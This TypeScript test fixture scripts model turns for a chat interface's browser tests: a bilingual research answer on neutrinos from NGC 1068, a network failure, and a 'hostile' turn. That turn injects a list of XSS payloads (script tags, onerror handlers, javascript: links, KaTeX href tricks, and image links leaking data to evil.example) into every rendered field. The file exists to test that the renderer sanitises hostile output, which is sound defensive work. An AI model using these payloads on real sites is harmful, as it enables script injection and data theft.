/** The scripted turns of the browser tests: a research answer in both languages, hostile text, faults. */
import { begin, done, plan, reply, result, type Script, step, usage } from './scripted-turn.ts';

const SEARCH = {
  id: 'call_1',
  name: 'search_ads',
  arguments: { query: 'NGC 1068 neutrino emission', rows: 5, years: '2019-2024' },
};
const RESOLVE = { id: 'call_2', name: 'query_simbad', arguments: { object: 'NGC 1068' } };
const DOWNLOAD = { id: 'call_3', name: 'download_paper', arguments: { arxiv_id: '2211.09972' } };

const FOUND = `1. 2022Sci...378..538I  Evidence for neutrino emission from the nearby active galaxy NGC 1068
2. 2020PhRvL.125a1101M  Hidden Cores of Active Galactic Nuclei as the Origin of Medium-Energy Neutrinos
3. 2020ApJ...891L..33I  On the Origin of High-energy Neutrinos from NGC 1068: The Role of Nonthermal Coronal Activity…`;

const THOUGHT =
  'The question has two halves: the mechanism and the strength of the evidence. I need the IceCube result first, then the models of a hidden corona. The distance matters for the luminosity, so I check SIMBAD as well.';

const ANSWER = `NGC 1068 is the strongest steady neutrino source found so far. IceCube reports $79^{+22}_{-20}$ events at a global significance of **4.2σ** [2022Sci...378..538I], while gamma rays of matching energy are missing. That mismatch is the clue to *where* the neutrinos are made.

## Why the source must be hidden

Protons that lose energy by $pp$ or $p\\gamma$ collisions give neutrinos and gamma rays in nearly equal parts. The gamma rays can only vanish if the optical depth for pair production is large:

\\[
\\tau_{\\gamma\\gamma} \\approx \\frac{\\sigma_T}{4\\pi c}\\,\\frac{L_X}{R\\,\\langle\\epsilon\\rangle} \\gg 1
\\quad\\Rightarrow\\quad R \\lesssim 30\\text{–}100\\,R_S
\\]

This points to the **corona** above the accretion disk (arXiv:1904.05714), not to the starburst or the jet.

| Site | Size | Gamma rays escape? | Fits the flux? |
|:--|--:|:--:|:--|
| Corona | ~30 $R_S$ | no | yes |
| Jet | ~0.1 pc | yes | no, breaks the Fermi limit |
| Starburst ring | ~1 kpc | yes | no, too faint by a factor of 10 |

## How strong is the evidence?

1. The spectrum is soft, $\\Phi \\propto E^{-3.2 \\pm 0.2}$, between 1.5 and 15 TeV.
2. The global p-value of $1.1 \\times 10^{-7}$ already counts the 110 sources that were searched.
3. It is **one** experiment: KM3NeT has not confirmed it yet.

> Below 5σ the word is *evidence*, not *discovery*.

See also doi:10.1126/science.abg3395 and the [IceCube release](https://icecube.wisc.edu/news/).`;

const ANSWER_ZH = `NGC 1068 是迄今最强的稳定中微子源。IceCube 报告了 $79^{+22}_{-20}$ 个事件，全局显著性为 **4.2σ** [2022Sci...378..538I]，却看不到能量相当的伽马射线。正是这一矛盾指出了中微子产生的地方。

## 源为什么必须被遮蔽

质子通过 $pp$ 或 $p\\gamma$ 碰撞损失能量时，产生的中微子与伽马射线几乎一样多。只有当成对产生的光深很大时，伽马射线才会消失：

\\[
\\tau_{\\gamma\\gamma} \\approx \\frac{\\sigma_T}{4\\pi c}\\,\\frac{L_X}{R\\,\\langle\\epsilon\\rangle} \\gg 1
\\]

这指向吸积盘上方的**冕**（arXiv:1904.05714），而不是星暴环或喷流。

| 位置 | 尺度 | 伽马射线能否逃逸 | 与流量相符 |
|:--|--:|:--:|:--|
| 冕 | ~30 $R_S$ | 否 | 是 |
| 喷流 | ~0.1 pc | 是 | 否，超出 Fermi 上限 |
| 星暴环 | ~1 kpc | 是 | 否，弱了约 10 倍 |

## 证据有多强

1. 能谱较软：$\\Phi \\propto E^{-3.2 \\pm 0.2}$，范围 1.5–15 TeV。
2. 全局 p 值 $1.1 \\times 10^{-7}$ 已经计入所搜索的 110 个源。
3. 目前只有**一个**实验：KM3NeT 尚未确认。`;

function research(answer: string, tasks: readonly string[], remark: string): Script {
  const [search = '', read = '', weigh = ''] = tasks;
  return [
    step(1, 3200),
    { stream: 'thought', text: THOUGHT },
    { stream: 'text_delta', text: remark },
    reply(remark, THOUGHT, [SEARCH, RESOLVE, DOWNLOAD]),
    plan([search, 'in_progress'], [read, 'pending', '1'], [weigh, 'pending', '1', '2']),
    begin(SEARCH),
    { gate: 'search' },
    result(SEARCH, FOUND, 1240),
    begin(RESOLVE),
    result(RESOLVE, 'NGC 1068 · Seyfert 2 · z = 0.003793 · D = 10.1 Mpc', 380),
    begin(DOWNLOAD),
    result(DOWNLOAD, 'HTTP 503 from export.arxiv.org. Try again later, or give the DOI.', 2100, 'error'),
    plan([search, 'completed'], [read, 'completed'], [weigh, 'in_progress']),
    step(2, 9800),
    { stream: 'text_delta', text: answer.slice(0, 420) },
    { gate: 'middle' },
    { stream: 'text_delta', text: answer.slice(420) },
    { gate: 'end' },
    reply(answer),
    plan([search, 'completed'], [read, 'completed'], [weigh, 'completed']),
    usage(13_240, 1180, 2),
    done,
  ];
}

export const NGC_1068: Script = research(
  ANSWER,
  [
    'Search the literature since 2019',
    'Read the IceCube analysis',
    'Weigh models against the gamma-ray limits',
  ],
  'I look at the IceCube result and at the models of the source.',
);

export const NGC_1068_ZH: Script = research(
  ANSWER_ZH,
  ['检索 2019 年以来的文献', '阅读 IceCube 的分析', '用伽马射线上限检验各模型'],
  '我先看 IceCube 的结果和源的模型。',
);

/** Every way of getting a script, a style or a request into the page that a model or a tool may try. */
const HOSTILE = [
  '<script>window.stolen = 1</script>',
  '<img src=x onerror="window.stolen = 1">',
  '<svg onload="window.stolen = 1"><style>body{display:none}</style></svg>',
  '<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>',
  '[click](javascript:window.stolen=1) [data](data:text/html,<script>window.stolen=1</script>) [ours](/api/sessions)',
  '![pixel](https://evil.example/pixel.png?q=secret) ![data](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![ref][p]',
  '$\\href{javascript:window.stolen=1}{x}$ $\\includegraphics{https://evil.example/a.png}$ $\\htmlStyle{color:red}{x}$',
  '$\\htmlData{onclick=window.stolen=1}{x}$ $$\\unicode{<img src=x onerror=window.stolen=1>}$$',
  '<https://evil.example/a"onmouseover="window.stolen=1>',
  '[x]: javascript:window.stolen=1',
  '[p]: https://evil.example/ref.png',
  '```html\n<script>window.stolen = 1</script>\n```',
  'a \u202Ereversed\u202C and \u0000 control',
].join('\n\n');

export const HOSTILE_TURN: Script = [
  step(1, 900),
  { stream: 'thought', text: HOSTILE },
  { stream: 'text_delta', text: HOSTILE },
  reply(HOSTILE, HOSTILE, [
    { id: 'x', name: '<img src=x onerror=window.stolen=1>', arguments: { a: HOSTILE } },
  ]),
  begin({ id: 'x', name: '<img src=x onerror=window.stolen=1>', arguments: { a: HOSTILE } }),
  result({ id: 'x', name: '<script>window.stolen=1</script>', arguments: {} }, HOSTILE, 5),
  plan([HOSTILE, 'in_progress']),
  { event: 'error', fields: { kind: '<b>kind</b>', message: HOSTILE, retryable: false } },
  reply(HOSTILE),
  usage(900, 80, 1),
  done,
];

export const FAILING: Script = [
  step(1, 800),
  { stream: 'text_delta', text: 'Half an answer that' },
  {
    event: 'attempt_failed',
    fields: { kind: 'network', message: 'Connection reset by the model endpoint.' },
  },
  {
    event: 'error',
    fields: {
      kind: 'network',
      message: 'The model endpoint closed the connection three times. Check LLM_BASE_URL, then ask again.',
      retryable: true,
    },
  },
  usage(800, 0, 1),
  { event: 'done', fields: { status: 'failed' } },
];

export const SHORT: Script = [
  step(1, 700),
  { stream: 'text_delta', text: 'The distance is ' },
  reply('The distance is $10.1 \\pm 1.8$ Mpc.'),
  usage(700, 30, 1),
  done,
];

/** The script for a question, by what it says. */
export function scriptFor(question: string): Script {
  if (question.includes('hostile')) return HOSTILE_TURN;
  if (question.includes('fail')) return FAILING;
  if (/\p{Script=Han}/u.test(question)) return NGC_1068_ZH;
  return question.includes('NGC 1068') ? NGC_1068 : SHORT;
}
